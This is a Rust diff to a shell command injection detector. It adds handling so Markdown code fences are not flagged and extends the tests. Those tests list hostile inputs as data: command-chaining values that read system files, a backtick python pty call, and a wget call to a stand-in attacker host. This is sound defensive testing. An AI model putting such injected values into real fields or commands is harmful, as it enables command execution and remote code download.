@@ -287,6 +287,26 @@ fn sensitive_arg(rest: &[u8]) -> bool {
         || find(b"/var/")
 }
 
+/// A Markdown code fence at `b[i]`: three or more backticks opening a line, then an optional info
+/// word (`python`, `c++`) and the end of the line or value. Returns the index after the fence. To a
+/// shell that would be an empty substitution followed by one running the info word (`python`), but
+/// it is how every Markdown editor quotes code; a backtick payload cannot end its line there.
+fn markdown_fence(b: &[u8], i: usize) -> Option<usize> {
+    if i > 0 && b[i - 1] != b'\n' {
+        return None;
+    }
+    let run = b[i..].iter().take_while(|c| **c == b'`').count();
+    if run < 3 {
+        return None;
+    }
+    let info = b[i + run..]
+        .iter()
+        .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'-' | b'+' | b'.' | b'#'))
+        .count();
+    let end = i + run + info;
+    matches!(b.get(end), None | Some(b'\n' | b'\r')).then_some(end)
+}
+
 /// Shell command injection.
 #[must_use]
 pub fn detect(s: &str) -> Option<&'static str> {
@@ -315,6 +335,12 @@ pub fn detect(s: &str) -> Option<&'static str> {
     let mut i = 0;
     while i < b.len() {
         let c = b[i];
+        if c == b'`'
+            && let Some(end) = markdown_fence(b, i)
+        {
+            i = end;
+            continue;
+        }
         let (start, subst) = if c == b'`' {
             (i + 1, true)
         } else if c == b'$' && b.get(i + 1) == Some(&b'(') {
@@ -463,6 +489,9 @@ mod tests {
             "y|type C:\\boot.ini",
             "cat /etc/hosts",
             "z;echo$IFS$((7*7))",
+            "```python -c 'import pty'```",
+            "x\n```id```",
+            "x```wget http://evil.test/x```",
         ] {
             assert!(detect(a).is_some(), "missed {a:?}");
         }
@@ -485,6 +514,8 @@ mod tests {
             "bash away in the gym",
             "DELETE 75oBC$",
             "cost: $(5 + tax)",
+            "```python\nfor row in rows:\n    print(row)\n```",
+            "Example:\r\n```perl\r\nmy $x = 1;\r\n```",
         ] {
             assert!(detect(b).is_none(), "false positive {b:?}: {:?}", detect(b));
         }
